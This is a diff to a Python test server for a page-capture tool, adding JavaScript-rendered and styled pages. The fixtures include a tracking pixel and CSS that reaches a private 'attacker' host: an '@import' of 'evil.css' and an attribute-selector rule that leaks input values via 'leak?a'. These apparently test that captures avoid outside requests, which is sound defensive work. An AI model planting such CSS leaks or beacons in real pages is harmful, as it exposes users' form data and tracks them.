@@ -1,5 +1,7 @@
 """A local HTTP server for the capture tests: robots.txt rules, pages, redirects, slow, huge and
-non-HTML answers, a 429 that asks to wait, and a page whose article only JavaScript writes."""
+non-HTML answers, a 429 that asks to wait, a page whose article only JavaScript writes (from a JSON request,
+and which then asks for an image at a private address), and a page with its stylesheets, an import, a font
+and images (and CSS that reaches elsewhere: an import, an attribute selector, an image-set)."""
 
 from __future__ import annotations
 
@@ -12,6 +14,32 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 ROBOTS = (b"User-agent: *\nDisallow: /private\nAllow: /private/open\nCrawl-delay: 0.2\n\n"
           b"User-agent: grumpy\nDisallow: /\n")
+
+
+JS_SHELL = (b"<!doctype html><html><head><meta charset='utf-8'><title>Timetable</title></head><body>"
+            b"<nav>Home | News</nav><div id='app'>Loading...</div><script>"
+            b"fetch('/api/article').then((r) => r.json()).then((a) => {"
+            b"document.getElementById('app').innerHTML = '<article><h1>' + a.title + '</h1>' +"
+            b" a.paragraphs.map((p) => '<p>' + p + '</p>').join('') + '</article>';"
+            b" new Image().src = 'http://10.0.0.7:8080/pixel.gif';});</script></body></html>")
+ARTICLE_JSON = (b'{"title": "Winter timetable", "paragraphs": ['
+                b'"The winter timetable of the harbour ferries starts on the first of November.",'
+                b'"Boats leave every forty minutes from the north pier, and every hour on Sundays.",'
+                b'"Tickets bought before the change stay valid until the end of the year."]}')
+STYLED = (b"<!doctype html><html><head><meta charset='utf-8'><title>Styled</title>"
+          b"<link rel='stylesheet' href='/css/site.css'><link rel='icon' href='/favicon.ico'>"
+          b"<style>body{background:url(/img/back.png)} .tracked{background:url(http://10.0.0.7:8080/track.gif)}</style>"
+          b"</head><body><nav class='menu'>Home | News</nav><article><h1>Styled ferry news</h1>"
+          b"<p class='lead' style='background-image:url(/img/dot.png)'>The ferry runs again.</p>"
+          b"<img src='/img/photo.png' alt='the ferry'><input value='abc'></article></body></html>")
+SITE_CSS = (b"@import url('/css/extra.css');\n@import url(http://10.0.0.7:8080/evil.css);\n"
+            b"@font-face{font-family:Harbour;src:url(/fonts/harbour.woff2) format('woff2')}\n"
+            b"nav.menu{float:right;width:30%} article{font-family:Harbour} .lead{color:rgb(200, 0, 0)}\n"
+            b"input[value^=a]{background:url(//10.0.0.7:8080/leak?a)}\n"
+            b".hero{background-image:image-set('/img/back.png' 1x, 'http://10.0.0.7:8080/x2.png' 2x)}\n")
+EXTRA_CSS = b"h1{text-transform:uppercase}\n"
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+                    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2a0c1a90000000049454e44ae426082")
 
 
 def page(title: str, body: str) -> bytes:
@@ -65,6 +93,20 @@ class Handler(BaseHTTPRequestHandler):
                 self.send(429, b"slow down", "text/plain", Retry_After="1")
             else:
                 self.send(200, page("Patience", "Served on the second try."))
+        elif path == "/js-article":
+            self.send(200, JS_SHELL)
+        elif path == "/api/article":
+            self.send(200, ARTICLE_JSON, "application/json")
+        elif path == "/styled":
+            self.send(200, STYLED)
+        elif path == "/css/site.css":
+            self.send(200, SITE_CSS, "text/css")
+        elif path == "/css/extra.css":
+            self.send(200, EXTRA_CSS, "text/css; charset=utf-8")
+        elif path == "/fonts/harbour.woff2":
+            self.send(200, b"wOF2 not a real font", "font/woff2")
+        elif path.startswith("/img/"):
+            self.send(200, PNG, "image/png")
         elif path == "/missing":
             self.send(404, b"<html><body>Not here</body></html>")
         else:
